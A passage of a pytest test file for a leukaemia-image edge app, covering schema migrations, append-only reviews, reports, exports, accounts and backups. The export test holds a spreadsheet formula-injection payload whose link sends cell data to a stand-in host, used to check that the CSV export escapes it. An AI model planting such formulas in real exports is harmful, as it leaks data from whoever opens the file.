"""Samples, the sample rule, schema migrations, reviews, reports and exports (real SQLite, real
files, the real CLI). The browser side of the review page is in test_review_browser.py."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import re
import socket
import sqlite3
import stat
import subprocess
import time
from pathlib import Path

import pytest

from conftest import BIN, DATA_DIR, run_cli
from leukedge.edge_app.review import data
from leukedge.edge_app.samples import LABEL, UNCERTAIN, UNKNOWN, SampleRule
from leukedge.edge_app.storage import (
    COLUMN_NAMES,
    MIGRATIONS,
    SCHEMA_VERSION,
    ResultStore,
    SchemaError,
    connect,
)

# The schema exactly as release 0.1.0 (schema version 1) created it; never change this string.
RELEASE_1_SCHEMA = (
    "CREATE TABLE IF NOT EXISTS results (id INTEGER PRIMARY KEY AUTOINCREMENT, timestamp_utc TEXT NOT NULL, "
    "sample_id TEXT, mode TEXT NOT NULL, source TEXT NOT NULL, frame_origin TEXT, decision TEXT NOT NULL, "
    "label TEXT, top_label TEXT, confidence REAL, probabilities TEXT, quality_ok INTEGER NOT NULL, "
    "quality_reason TEXT, focus REAL, brightness REAL, contrast REAL, clipped REAL, model_file TEXT NOT NULL, "
    "model_sha256 TEXT NOT NULL, model_variant TEXT, model_verified INTEGER NOT NULL, runtime TEXT NOT NULL, "
    "app_version TEXT NOT NULL, image_path TEXT)"
)
RELEASE_1_COLUMNS = COLUMN_NAMES[:24]
LABELS = ("Benign", "Early Pre-B", "Pre-B", "Pro-B")


def frame(
    decision: str,
    label: str | None = None,
    p: float = 0.95,
    frame_id: int | None = None,
    top: str = "Pre-B",
    **extra,
) -> dict:
    probabilities = {name: (p if name == (label or top) else (1 - p) / 3) for name in LABELS}
    row = {
        "id": frame_id,
        "decision": decision,
        "label": label,
        "top_label": label or top,
        "confidence": p,
        "probabilities": None if decision == "unfit" else json.dumps(probabilities),
    }
    row.update(extra)
    return row


def stored_row(**extra) -> dict:
    row = {name: None for name in COLUMN_NAMES[1:]}
    row.update(
        timestamp_utc="2026-01-01T00:00:00Z",
        mode="live",
        source="s",
        decision="label",
        label="Pre-B",
        top_label="Pre-B",
        confidence=0.95,
        quality_ok=1,
        model_file="m.tflite",
        model_sha256="a" * 64,
        model_verified=1,
        runtime="ai-edge-litert",
        app_version="0.1.0",
        probabilities=json.dumps(
            {"Benign": 0.01, "Early Pre-B": 0.02, "Pre-B": 0.95, "Pro-B": 0.02}
        ),
    )
    row.update(extra)
    return row


def release_1_database(path: Path, rows: int = 6) -> list[tuple]:
    """A database as the first release wrote it (its schema, its pragmas, its rows)."""
    connection = sqlite3.connect(path, isolation_level=None)
    connection.execute("PRAGMA journal_mode=WAL")
    connection.execute(RELEASE_1_SCHEMA)
    connection.execute("PRAGMA user_version=1")
    for number in range(rows):
        row = stored_row(
            sample_id=f"OLD-{number % 2}", timestamp_utc=f"2026-01-01T00:00:0{number}Z"
        )
        connection.execute(
            f"INSERT INTO results ({', '.join(RELEASE_1_COLUMNS[1:])}) VALUES "
            f"({', '.join('?' * (len(RELEASE_1_COLUMNS) - 1))})",
            [row[name] for name in RELEASE_1_COLUMNS[1:]],
        )
    before = connection.execute("SELECT * FROM results ORDER BY id").fetchall()
    connection.close()
    return before


# -- schema --------------------------------------------------------------------------------------
def test_a_release_1_database_upgrades_and_keeps_every_row(tmp_path):
    db = tmp_path / "old.sqlite"
    before = release_1_database(db)
    store = ResultStore(db)
    assert store.count() == len(before)
    store.add(
        stored_row(sample_id="NEW", ood_score=1.5, decision_rule="r", prediction_set=["Pre-B"])
    )
    store.close()
    connection = sqlite3.connect(db)
    assert connection.execute("PRAGMA user_version").fetchone()[0] == SCHEMA_VERSION == 3
    assert connection.execute("PRAGMA integrity_check").fetchone()[0] == "ok"
    after = connection.execute(
        f"SELECT {', '.join(RELEASE_1_COLUMNS)} FROM results ORDER BY id"
    ).fetchall()
    assert after[: len(before)] == before  # every old row, every value
    new = connection.execute(
        "SELECT ood_score, decision_rule, prediction_set, ood_threshold FROM results "
        "WHERE sample_id = 'NEW'"
    ).fetchone()
    assert new == (1.5, "r", '["Pre-B"]', None)
    samples = connection.execute(
        "SELECT sample_id, created_utc FROM samples ORDER BY sample_id"
    ).fetchall()
    assert samples == [
        ("NEW", samples[0][1]),
        ("OLD-0", "2026-01-01T00:00:00Z"),
        ("OLD-1", "2026-01-01T00:00:01Z"),
    ]
    connection.close()


def test_a_version_2_database_gains_the_ood_threshold_and_keeps_its_guard(tmp_path):
    """Schema 2 (the first trust release) -> 3: every row kept, old rows have no threshold, and
    the recreated trigger guards the new column like the machine result's other fields."""
    db = tmp_path / "v2.sqlite"
    release_1_database(db)
    connection = sqlite3.connect(db)
    for statement in MIGRATIONS[1][1]:  # exactly what release 2 ran
        connection.execute(statement)
    connection.execute("PRAGMA user_version=2")
    connection.commit()
    before = connection.execute("SELECT * FROM results ORDER BY id").fetchall()
    connection.close()
    store = ResultStore(db)
    store.add(stored_row(sample_id="NEW", ood_score=3.0, ood_threshold=7.5))
    store.close()
    connection = sqlite3.connect(db)
    assert connection.execute("PRAGMA user_version").fetchone()[0] == 3
    columns = [row[1] for row in connection.execute("PRAGMA table_info(results)")]
    after = connection.execute(
        f"SELECT {', '.join(columns[:-1])} FROM results ORDER BY id"
    ).fetchall()
    assert after[: len(before)] == before
    thresholds = [t for (t,) in connection.execute("SELECT ood_threshold FROM results ORDER BY id")]
    assert thresholds == [None] * len(before) + [7.5]
    with pytest.raises(sqlite3.DatabaseError, match="never changed"):
        connection.execute("UPDATE results SET ood_threshold = 1e9")
    with pytest.raises(sqlite3.DatabaseError, match="never changed"):
        connection.execute("UPDATE results SET ood_score = 0")
    connection.close()


def test_a_newer_database_is_refused_and_left_untouched(tmp_path):
    db = tmp_path / "future.sqlite"
    release_1_database(db)
    connection = sqlite3.connect(db)
    connection.execute("PRAGMA user_version=99")
    connection.commit()
    connection.close()
    digest = hashlib.sha256(db.read_bytes()).hexdigest()
    with pytest.raises(SchemaError, match="newer LeukEdge"):
        ResultStore(db)
    for args in (
        ("serve", "--db", db),
        ("report", "X", "--db", db, "--out", tmp_path / "x.pdf"),
        ("export", "--db", db, "--samples-json", tmp_path / "x.json"),
    ):
        result = run_cli("edge-app", *args, check=False, timeout=60)
        assert result.returncode == 1 and "Traceback" not in result.stderr, result.stderr
        assert "written by a newer LeukEdge (database schema 99" in result.stderr, result.stderr
    assert hashlib.sha256(db.read_bytes()).hexdigest() == digest
    assert not (tmp_path / "x.pdf").exists() and not (tmp_path / "x.json").exists()


def test_missing_or_non_sqlite_database_is_a_clear_error(tmp_path):
    text = tmp_path / "notes.sqlite"
    text.write_text("this is not a database\n" * 20)
    other = tmp_path / "other.sqlite"
    connection = sqlite3.connect(other)
    connection.execute("CREATE TABLE patients (name TEXT)")
    connection.commit()
    connection.close()
    with pytest.raises(SchemaError, match="not an SQLite database"):
        ResultStore(text)
    with pytest.raises(SchemaError, match="not a LeukEdge results database"):
        ResultStore(other)
    for db, message in (
        (tmp_path / "missing.sqlite", "no such database"),
        (text, "not an SQLite database"),
        (other, "not a LeukEdge results database"),
    ):
        result = run_cli("edge-app", "serve", "--db", db, check=False, timeout=60)
        assert (
            result.returncode == 1 and message in result.stderr and "Traceback" not in result.stderr
        )
    assert text.read_text().startswith("this is not")
    assert not (tmp_path / "missing.sqlite").exists()


def test_reviews_are_append_only_and_answers_never_change(tmp_path):
    db = tmp_path / "r.sqlite"
    store = ResultStore(db, operator="op", site="lab")
    for _ in range(3):
        store.add(stored_row(sample_id="S1"))
    store.close()
    connection = connect(db)
    review = data.add_review(
        connection, "S1", "dr-a", "confirm", "looks right", labels=list(LABELS)
    )
    assert json.loads(review["before"])["label"] == "Pre-B" and review["n_frames"] == 3
    with pytest.raises(sqlite3.DatabaseError, match="append-only"):
        connection.execute("UPDATE reviews SET reason = 'changed'")
    with pytest.raises(sqlite3.DatabaseError, match="append-only"):
        connection.execute("DELETE FROM reviews")
    with pytest.raises(sqlite3.DatabaseError, match="never changed"):
        connection.execute("UPDATE results SET label = 'Benign'")
    with pytest.raises(sqlite3.DatabaseError, match="CHECK"):
        connection.execute(
            "INSERT INTO reviews (sample_id, reviewed_utc, reviewer, action, before, after, "
            "reason, n_frames) VALUES ('S1', 't', 'x', 'confirm', '{}', '{}', '  ', 1)"
        )
    with pytest.raises(data.ReviewError, match="reason is required"):
        data.add_review(connection, "S1", "dr-a", "override", " ", "Benign", list(LABELS))
    with pytest.raises(data.ReviewError, match="override needs a label"):
        data.add_review(connection, "S1", "dr-a", "override", "why", "Nonsense", list(LABELS))
    data.add_review(connection, "S1", "dr-b", "override", "second look", "Benign", list(LABELS))
    summary, _frames = data.get_sample(connection, "S1")
    assert [r["reviewer"] for r in summary.reviews] == ["dr-a", "dr-b"]
    assert summary.status == data.OVERRIDDEN and summary.final["label"] == "Benign"
    assert (summary.operator, summary.site) == ("op", "lab")
    connection.close()


def test_to_review_queue_holds_unreviewed_samples_and_those_with_new_fields(tmp_path):
    db = tmp_path / "q.sqlite"
    store = ResultStore(db)
    for sample_id in ("S-NEW", "S-DONE", "S-MORE"):
        for _ in range(3):
            store.add(stored_row(sample_id=sample_id))
    store.ensure_sample("S-EMPTY")
    store.close()
    connection = connect(db)
    for sample_id in ("S-DONE", "S-MORE"):
        data.add_review(connection, sample_id, "dr-a", "confirm", "ok", labels=list(LABELS))
    connection.close()
    store = ResultStore(db)
    store.add(stored_row(sample_id="S-MORE"))  # a field captured after the review
    store.close()

    connection = connect(db)
    queue = data.list_samples(connection, to_review=True)
    assert sorted(s.sample_id for s in queue) == ["S-EMPTY", "S-MORE", "S-NEW"]
    assert data.count_samples(connection, to_review=True) == 3
    assert data.count_samples(connection) == 4
    # The SQL queue and the summary's own flag agree on every sample.
    for summary in data.list_samples(connection):
        waiting = summary.last_review is None or summary.new_frames_since_review
        assert waiting == (summary.sample_id in {s.sample_id for s in queue}), summary.sample_id
    assert [s.sample_id for s in data.list_samples(connection, 1, 1, to_review=True)] == [
        queue[1].sample_id
    ]
    # Search: a substring of the ID, any case, with % and _ taken literally; with the queue too.
    assert [s.sample_id for s in data.list_samples(connection, search="mor")] == ["S-MORE"]
    assert data.count_samples(connection, search="s-") == 4
    assert (
        data.count_samples(connection, search="%")
        == data.count_samples(connection, search="_")
        == 0
    )
    assert [s.sample_id for s in data.list_samples(connection, to_review=True, search="E")] == [
        s.sample_id for s in queue
    ]
    assert data.list_samples(connection, to_review=True, search="DONE") == []
    # "Next to review" after saving one: the newest other sample in the queue, never a done one.
    assert data.next_to_review(connection, queue[0].sample_id) == queue[1].sample_id
    assert data.next_to_review(connection, "S-DONE") == queue[0].sample_id
    for sample_id in ("S-NEW", "S-EMPTY"):
        data.add_review(connection, sample_id, "dr-a", "confirm", "ok", labels=list(LABELS))
    assert data.next_to_review(connection, "S-MORE") is None
    assert data.next_to_review(connection, "S-NEW") == "S-MORE"
    connection.close()


# -- the sample rule -------------------------------------------------------------------------------
def test_sample_rule_answers_refers_and_names_the_driving_fields():
    rule = SampleRule()
    agree = [frame(LABEL, "Pre-B", 0.9 + i / 100, frame_id=i) for i in range(4)]
    result = rule.combine(agree + [frame("unfit", p=0.0), frame(UNCERTAIN, p=0.6, top="Benign")])
    assert (result.decision, result.label, result.n_fit, result.n_unfit) == (LABEL, "Pre-B", 5, 1)
    assert result.driving_frames == (3, 2, 1, 0)  # most confident first
    assert result.confidence > 0.99 and result.message.startswith("Pre-B (")

    few = rule.combine([frame(LABEL, "Pre-B"), frame(LABEL, "Pre-B"), frame("unfit", p=0.0)])
    assert few.decision == UNCERTAIN and "too few fit fields: 2 of the 3" in few.reason
    foreign = rule.combine([frame(LABEL, "Pre-B")] * 3 + [frame(UNKNOWN, p=0.5)] * 2)
    assert foreign.decision == UNKNOWN and foreign.message == "unknown: refer"
    # A referral still counts its answered fields, so a report's counts add up.
    assert few.votes == {"Pre-B": 2} and foreign.votes == {"Pre-B": 3}
    split = rule.combine([frame(LABEL, "Pre-B")] * 3 + [frame(LABEL, "Benign")] * 2)
    assert split.decision == UNCERTAIN and "fields disagree" in split.reason
    unsure = rule.combine([frame(LABEL, "Pre-B")] * 2 + [frame(UNCERTAIN, p=0.5)] * 3)
    assert unsure.decision == UNCERTAIN and "too many uncertain" in unsure.reason
    # one confident wrong field among agreeing ones: the floor keeps it from vetoing the answer
    one_off = rule.combine([frame(LABEL, "Pre-B", 0.9)] * 4 + [frame(LABEL, "Benign", 0.999)])
    assert one_off.decision == LABEL and one_off.label == "Pre-B"
    assert rule.combine([]).decision == UNCERTAIN


# -- reports, exports, accounts -----------------------------------------------------------------
@pytest.fixture()
def small_db(tmp_path) -> Path:
    db = tmp_path / "s.sqlite"
    store = ResultStore(db, operator="op-7", site="Clinic-3")
    for _ in range(4):
        store.add(stored_row(sample_id="S-REP"))
    store.ensure_sample("S-EMPTY")
    store.close()
    return db


def test_report_cli_writes_pdf_and_html_and_refuses_a_sample_without_frames(small_db, tmp_path):
    from pypdf import PdfReader

    pdf, page = tmp_path / "S-REP.pdf", tmp_path / "S-REP.html"
    run_cli("edge-app", "report", "S-REP", "--db", small_db, "--out", pdf, timeout=60)
    run_cli("edge-app", "report", "S-REP", "--db", small_db, "--out", page, timeout=60)
    text = " ".join(p.extract_text() for p in PdfReader(pdf).pages)
    for expected in ("S-REP", "Clinic-3", "op-7", "a" * 64, "not a diagnostic device", "Pre-B: 4"):
        assert expected in text and expected in page.read_text(), expected
    # A report to sign by hand, which says when no one has reviewed the sample yet.
    for expected in ("Sign-off", "Hematologist (name)", "Signature", "Not reviewed on the review"):
        assert expected in text and expected in page.read_text(), expected
    assert "LeukEdge sample report S-REP - page 1 of 1" in text
    # The disclaimer heads and ends the report, once each, not said twice over.
    assert page.read_text().count("not a diagnostic device") == 2
    assert stat.S_IMODE(pdf.stat().st_mode) == 0o600
    for sample, message in (
        ("S-EMPTY", "has no frames"),
        ("NOPE", "no sample 'NOPE'"),
        ("S-RPE", "no sample 'S-RPE' in the database; did you mean 'S-REP'?"),
    ):
        out = tmp_path / f"{sample}.pdf"
        result = run_cli(
            "edge-app", "report", sample, "--db", small_db, "--out", out, check=False, timeout=60
        )
        assert (
            result.returncode == 1 and message in result.stderr and "Traceback" not in result.stderr
        )
        assert not out.exists() and not list(tmp_path.glob(".tmp-*"))
    # A folder no file can be made in: the message names --out, not the temporary file tried.
    result = run_cli(
        "edge-app",
        "report",
        "S-REP",
        "--db",
        small_db,
        "--out",
        "/proc/S-REP.pdf",
        check=False,
        timeout=60,
    )
    assert result.returncode == 1 and "--out /proc/S-REP.pdf: cannot write" in result.stderr
    assert ".tmp-" not in result.stderr and "Traceback" not in result.stderr


def test_report_of_a_referred_sample_never_captions_a_field_as_an_answer(tmp_path):
    import cv2
    import numpy as np

    db, image = tmp_path / "r.sqlite", tmp_path / "field.jpg"
    cv2.imwrite(str(image), np.full((64, 64, 3), 200, np.uint8))
    store = ResultStore(db)
    for _ in range(3):
        store.add(stored_row(sample_id="S-OOD", image_path=str(image)))
    for _ in range(2):  # out of distribution, though its top class is confident
        store.add(
            stored_row(
                sample_id="S-OOD",
                decision=UNKNOWN,
                label=None,
                top_label="Benign",
                confidence=0.996,
                image_path=str(image),
            )
        )
    store.close()
    page = tmp_path / "S-OOD.html"
    run_cli("edge-app", "report", "S-OOD", "--db", db, "--out", page, timeout=60)
    text = page.read_text()
    assert "unknown: refer" in text
    captions = re.findall(r"<figcaption>(.*?)</figcaption>", text)
    assert captions and all(c.endswith("unknown, top Benign 99.6%") for c in captions), captions
    assert "Answered fields per class: Pre-B: 3" in text and "label: 3, unknown: 2" in text


def test_export_samples_csv_and_json_with_reviews(small_db, tmp_path):
    connection = connect(small_db)
    data.add_review(connection, "S-REP", "dr-a", "confirm", "agree", labels=list(LABELS))
    connection.close()
    # Free text a spreadsheet would run as a formula when the clinic opens the export.
    formula = '=HYPERLINK("http://example.invalid/?"&A1,"details")'
    store = ResultStore(small_db)
    store.ensure_sample("S-TEXT", notes="+1 slide, stain: Wright", site="-north-")
    store.add(stored_row(sample_id="S-TEXT"))
    store.close()
    connection = connect(small_db)
    data.add_review(connection, "S-TEXT", "@dr-b", "confirm", formula, labels=list(LABELS))
    connection.close()
    out_csv, out_json = tmp_path / "samples.csv", tmp_path / "samples.json"
    run_cli(
        "edge-app",
        "export",
        "--db",
        small_db,
        "--samples-csv",
        out_csv,
        "--samples-json",
        out_json,
        timeout=60,
    )
    exported = {item["sample_id"]: item for item in json.loads(out_json.read_text())["samples"]}
    assert (
        exported["S-REP"]["status"] == "confirmed"
        and exported["S-REP"]["reviews"][0]["reason"] == "agree"
    )
    assert exported["S-EMPTY"]["n_frames"] == 0 and exported["S-EMPTY"]["status"] == "referred"
    assert exported["S-TEXT"]["reviews"][0]["reason"] == formula  # JSON keeps the text as typed
    lines = out_csv.read_text().splitlines()
    assert lines[0].startswith("sample_id,created_utc,operator,site") and len(lines) == 4
    assert "dr-a" in next(line for line in lines if line.startswith("S-REP"))
    rows = {row["sample_id"]: row for row in csv.DictReader(io.StringIO(out_csv.read_text()))}
    text = rows["S-TEXT"]
    assert text["last_review_reason"] == "'" + formula and text["last_reviewer"] == "'@dr-b"
    assert text["notes"] == "'+1 slide, stain: Wright" and text["site"] == "'-north-"
    assert rows["S-REP"]["last_review_reason"] == "agree" and rows["S-REP"]["confidence"]
    assert stat.S_IMODE(out_csv.stat().st_mode) == 0o600
    nothing = run_cli("edge-app", "export", "--db", small_db, check=False, timeout=60)
    assert nothing.returncode == 2 and "nothing to export" in nothing.stderr


def test_users_add_hashes_into_an_owner_only_file(tmp_path):
    db = tmp_path / "results.sqlite"
    run_cli(
        "edge-app", "users", "add", "dr.a", "--db", db, input="correct horse battery\n", timeout=60
    )
    users_file = tmp_path / "review-users.json"
    assert stat.S_IMODE(users_file.stat().st_mode) == 0o600
    stored = json.loads(users_file.read_text())["users"]["dr.a"]["hash"]
    assert stored.startswith("scrypt:") and "correct horse" not in users_file.read_text()
    short = run_cli(
        "edge-app", "users", "add", "dr.b", "--db", db, input="short\n", check=False, timeout=60
    )
    assert short.returncode == 1 and "password too short" in short.stderr
    assert "dr.b" not in users_file.read_text()
    run_cli("edge-app", "users", "add", "dr.c", "--db", db, input="another long one\n", timeout=60)
    listed = run_cli("edge-app", "users", "list", "--db", db, timeout=60)
    assert listed.stdout.split() == ["dr.a", "dr.c"] and "scrypt" not in listed.stdout
    run_cli("edge-app", "users", "remove", "dr.a", "--db", db, timeout=60)
    assert list(json.loads(users_file.read_text())["users"]) == ["dr.c"]
    assert stat.S_IMODE(users_file.stat().st_mode) == 0o600
    missing = run_cli("edge-app", "users", "remove", "dr.a", "--db", db, check=False, timeout=60)
    assert missing.returncode == 1 and "no reviewer 'dr.a'" in missing.stderr
    assert "accounts: dr.c" in missing.stderr and "Traceback" not in missing.stderr


def test_an_account_removed_while_serving_is_logged_out(small_db, tmp_path):
    from leukedge.edge_app.review.auth import add_user, load_users, remove_user
    from leukedge.edge_app.review.server import ServerConfig, create_app

    users_file = tmp_path / "accounts.json"
    add_user(users_file, "dr-a", "a long password")
    add_user(users_file, "dr-b", "another password")
    app = create_app(ServerConfig(small_db, users=load_users(users_file), users_file=users_file))
    client = app.test_client()
    client.get("/login")
    with client.session_transaction() as session:
        token = session["csrf"]
    form = {"name": "dr-a", "password": "a long password", "csrf_token": token}
    assert client.post("/login", data=form).status_code == 303
    assert client.get("/").status_code == 200
    remove_user(users_file, "dr-a")
    assert client.get("/").headers["Location"].startswith("/login")
    form = {"name": "dr-a", "password": "a long password", "csrf_token": token}
    client.get("/login")
    with client.session_transaction() as session:
        form["csrf_token"] = session["csrf"]
    assert client.post("/login", data=form).status_code == 401
    # A password reset ends the sessions opened with the old password.
    form = {"name": "dr-b", "password": "another password", "csrf_token": form["csrf_token"]}
    assert client.post("/login", data=form).status_code == 303
    assert client.get("/").status_code == 200
    add_user(users_file, "dr-b", "a new password!")
    assert client.get("/").headers["Location"].startswith("/login")
    # Removing the last account leaves a page nobody can open, never one open to all.
    remove_user(users_file, "dr-b")
    assert client.get("/api/samples").status_code == 401


def _free_port() -> int:
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        return probe.getsockname()[1]


def test_serve_refuses_a_network_bind_without_accounts_and_a_busy_port(small_db):
    refused = run_cli(
        "edge-app", "serve", "--db", small_db, "--host", "0.0.0.0", check=False, timeout=60
    )
    assert refused.returncode == 1 and "without reviewer accounts" in refused.stderr
    assert "edge-app users add" in refused.stderr and "Traceback" not in refused.stderr
    # The hint names the accounts file the server was told to read.
    accounts = small_db.parent / "accounts.json"
    refused = run_cli(
        "edge-app", "serve", "--db", small_db, "--host", "0.0.0.0", "--users", accounts,
        check=False, timeout=60,
    )  # fmt: skip
    assert f"edge-app users add NAME --users {accounts}" in refused.stderr
    # A file that is no certificate is named as such, not blamed on the address.
    not_pem = small_db.parent / "not-a-cert.pem"
    not_pem.write_text("hello\n")
    result = run_cli(
        "edge-app", "serve", "--db", small_db, "--port", _free_port(),
        "--tls-cert", not_pem, "--tls-key", not_pem, check=False, timeout=60,
    )  # fmt: skip
    assert result.returncode == 1 and f"--tls-cert {not_pem}" in result.stderr
    assert "not a usable PEM certificate" in result.stderr and "cannot listen" not in result.stderr
    with socket.socket() as busy:
        busy.bind(("127.0.0.1", 0))
        busy.listen()
        port = busy.getsockname()[1]
        result = run_cli(
            "edge-app", "serve", "--db", small_db, "--port", port, check=False, timeout=60
        )
    assert result.returncode == 1 and f"--port {port}: already in use" in result.stderr
    assert "Traceback" not in result.stderr


def test_network_bind_with_accounts_starts(small_db, tmp_path):
    run_cli(
        "edge-app", "users", "add", "dr-a", "--db", small_db, input="a long password\n", timeout=60
    )
    port = _free_port()
    server = subprocess.Popen(
        [
            str(BIN / "edge-app"),
            "serve",
            "--db",
            str(small_db),
            "--host",
            "0.0.0.0",
            "--port",
            str(port),
        ],
        stderr=subprocess.PIPE,
        text=True,
    )
    try:
        deadline = time.monotonic() + 30
        while time.monotonic() < deadline:
            try:
                socket.create_connection(("127.0.0.1", port), timeout=1).close()
                break
            except OSError:
                assert server.poll() is None, server.stderr.read()
                time.sleep(0.2)
        else:
            pytest.fail("the server did not start")
        import urllib.request

        # Not logged in: redirected to the login page (werkzeug colours a 302 line green).
        with urllib.request.urlopen(f"http://127.0.0.1:{port}/", timeout=10) as page:
            assert page.status == 200 and "/login" in page.url
    finally:
        server.terminate()
        server.wait(timeout=10)
    log = server.stderr.read()
    assert "login required" in log and '"GET / HTTP/1.1" 302' in log
    assert "\x1b[" not in log  # a log file gets no terminal colour codes


# -- the app files frames under samples; the two edge-bench commands ------------------------------
MODEL = Path(__file__).resolve().parents[1] / "models" / "model_int8.tflite"


def test_capture_mode_files_frames_under_sample_records(data_dir, tmp_path):
    slides = tmp_path / "slides"
    slides.mkdir()
    for path in sorted((data_dir / "Original" / "Pro").glob("*.jpg"))[:3]:
        (slides / path.name).symlink_to(path)
    db = tmp_path / "r.sqlite"
    run_cli(
        "edge-app",
        "run",
        "--model",
        MODEL,
        "--source",
        slides,
        "--mode",
        "capture",
        "--db",
        db,
        "--headless",
        "--operator",
        "tech-9",
        "--site",
        "Ward-2",
        input="S-1\n\nS-2\nq\n",
        timeout=120,
    )
    connection = sqlite3.connect(db)
    samples = connection.execute(
        "SELECT sample_id, operator, site FROM samples ORDER BY sample_id"
    ).fetchall()
    filed = connection.execute(
        "SELECT sample_id, COUNT(*) FROM results GROUP BY sample_id"
    ).fetchall()
    connection.close()
    assert samples == [("S-1", "tech-9", "Ward-2"), ("S-2", "tech-9", "Ward-2")]
    assert filed == [("S-1", 2), ("S-2", 1)]


@pytest.mark.slow  # an edge-bench simulation/timing job
def test_edge_bench_samples_simulates_and_writes_table_json_and_plot(tmp_path):
    out = tmp_path / "samples.json"
    # Foreign frames from the shared external folder, and one file that is no image at all.
    external = tmp_path / "external"
    external.mkdir()
    for path in sorted((DATA_DIR.parent / "external" / "bccd-fields").rglob("*.jpg"))[:20]:
        (external / path.name).symlink_to(path)
    (external / "zz-broken.jpg").write_text("not an image")
    result = run_cli(
        "edge-bench",
        "samples",
        "--model",
        MODEL,
        "--split",
        "val",
        "--limit-per-class",
        "12",
        "--external",
        external,
        "--ks",
        "1,3,5",
        "--trials",
        "40",
        "--json",
        out,
        "--plot",
        tmp_path / "samples.png",
        "--quiet",
        timeout=300,
    )
    report = json.loads(out.read_text())
    # The released model carries trust parameters: frames are decided by its own rule.
    assert report["legacy_frame_rule"] is False and "legacy per-frame rule" not in result.stdout
    rows = {(row["kind"], row["k"]): row for row in report["rows"]}
    assert set(rows) == {
        (kind, k) for kind in ("clean", "contaminated", "foreign") for k in (1, 3, 5)
    }
    assert rows[("clean", 1)]["referred_rate"] == 1.0  # fewer fit fields than the rule's minimum
    assert rows[("foreign", 5)]["right"] == 0 and rows[("clean", 5)]["answered"] > 0
    assert report["frames"]["blurred"] == {"unfit": 48}
    assert (tmp_path / "samples.png").stat().st_size > 10_000
    assert "k=5" in result.stdout and "| clean | 5 |" in result.stdout
    assert "left out 1 unreadable image(s)" in result.stderr and "zz-broken.jpg" in result.stderr


@pytest.mark.slow  # an edge-bench simulation/timing job
def test_edge_bench_review_server_small(tmp_path):
    out = tmp_path / "review.json"
    run_cli(
        "edge-bench",
        "review-server",
        "--model",
        MODEL,
        "--samples",
        "30",
        "--frames-per-sample",
        "5",
        "--requests",
        "3",
        "--run-frames",
        "40",
        "--json",
        out,
        timeout=300,
    )
    report = json.loads(out.read_text())
    beside = report["beside_run"]
    assert beside["run_frames_stored"] == beside["run_frames_printed"] == 40
    assert beside["errors"] == [] and beside["locked_messages"] == []
    assert beside["reviews_stored"] == beside["reviews_accepted"]
    assert report["server_time"]["sample list"]["median_ms"] > 0


# -- backup ------------------------------------------------------------------------------------
def _field(store: ResultStore, writer, sample_id: str, number: int) -> Path:
    """One stored frame with its saved image, as edge-app run --save-dir writes them."""
    import numpy as np

    rgb = np.full((32, 32, 3), number % 256, dtype=np.uint8)
    path = writer.save(rgb, f"{sample_id}-{number}")
    store.add(stored_row(sample_id=sample_id, image_path=str(path)))
    return path


def _counts(db: Path) -> tuple[int, int, int]:
    connection = sqlite3.connect(db)
    try:
        return tuple(
            connection.execute(f"SELECT COUNT(*) FROM {table}").fetchone()[0]
            for table in ("results", "samples", "reviews")
        )
    finally:
        connection.close()


def test_backup_copies_results_and_images_and_keeps_what_the_pi_prunes(tmp_path):
    from leukedge.edge_app.storage import FrameWriter

    db, frames, stick = tmp_path / "pi" / "r.sqlite", tmp_path / "pi" / "frames", tmp_path / "usb"
    stick.mkdir()
    store, writer = ResultStore(db), FrameWriter(frames)
    images = [_field(store, writer, "S-1", n) for n in range(4)]
    store.close()
    connection = connect(db)
    data.add_review(connection, "S-1", "dr-a", "confirm", "ok", labels=list(LABELS))
    connection.close()

    def backup() -> dict:
        run_cli(
            "edge-app", "backup", "--db", db, "--save-dir", frames, "--to", stick,
            "--json", tmp_path / "backup.json", timeout=120,
        )  # fmt: skip
        return json.loads((tmp_path / "backup.json").read_text())

    first = backup()
    copy = stick / "results.sqlite"
    assert (first["frames"], first["samples"], first["reviews"]) == _counts(db) == (4, 1, 1)
    assert _counts(copy) == (4, 1, 1) and first["integrity"] == "ok"
    assert first["images_copied"] == 4 and first["images_present"] == 0
    assert stat.S_IMODE(copy.stat().st_mode) == 0o600
    assert not list(stick.glob(".backup-*")) and not (stick / "results.sqlite-wal").exists()
    backed_up = stick / "frames" / images[0].parent.name / images[0].name
    assert backed_up.read_bytes() == images[0].read_bytes()

    # Nothing new: nothing copied. Then one more field, and the Pi's budget prunes the oldest.
    assert backup()["images_copied"] == 0
    store = ResultStore(db)
    _field(store, writer, "S-1", 99)
    store.close()
    images[0].unlink()
    third = backup()
    assert third["frames"] == 5 and third["images_copied"] == 1 and third["images_present"] == 3
    assert backed_up.is_file()  # the backup keeps what the Pi pruned

    # A moved database finds its images under the backup's folder, never outside it.
    stored = (
        sqlite3.connect(copy).execute("SELECT image_path FROM results ORDER BY id").fetchone()[0]
    )
    assert Path(stored) == images[0].resolve()  # the Pi's path, as recorded
    assert data.field_image(stored, stick / "frames") == backed_up.resolve()
    assert data.field_image(str(images[1]), tmp_path / "elsewhere") is None
    summary, _frames = data.get_sample(connect(copy, read_only=True), "S-1")
    assert summary.status == data.CONFIRMED and summary.result.n_frames == 5


def test_backup_goes_on_when_the_budget_prunes_an_image_mid_backup(tmp_path):
    from leukedge.edge_app.backup import backup
    from leukedge.edge_app.storage import FrameWriter

    db, frames, stick = tmp_path / "r.sqlite", tmp_path / "frames", tmp_path / "usb"
    stick.mkdir()
    store, writer = ResultStore(db), FrameWriter(frames)
    images = [_field(store, writer, "S-1", n) for n in range(3)]
    store.close()

    def prune_while_copying(todo):  # the app's storage budget deletes the oldest image meanwhile
        images[0].unlink()
        return todo

    summary = backup(db, stick, frames, progress=prune_while_copying)
    assert summary.integrity == "ok" and summary.frames == 3
    assert summary.images_copied == 2 and summary.bytes_copied == sum(
        image.stat().st_size for image in images[1:]
    )
    copied = stick / "frames" / images[1].parent.name / images[1].name
    assert copied.read_bytes() == images[1].read_bytes()
    assert stat.S_IMODE(copied.stat().st_mode) == 0o600
    assert copied.stat().st_mtime_ns == images[1].stat().st_mtime_ns  # next time: already there
    assert not list(copied.parent.glob(".tmp-*"))
    assert backup(db, stick, frames).images_present == 2


def test_backup_while_the_app_writes_is_consistent(tmp_path):
    """The app goes on storing frames during a backup; every backup is a whole snapshot."""
    import threading

    db, stick = tmp_path / "r.sqlite", tmp_path / "usb"
    stick.mkdir()
    store = ResultStore(db)
    store.add(stored_row(sample_id="S-1"))
    stop, written, errors = threading.Event(), [1], []

    def app() -> None:
        try:
            while not stop.is_set():
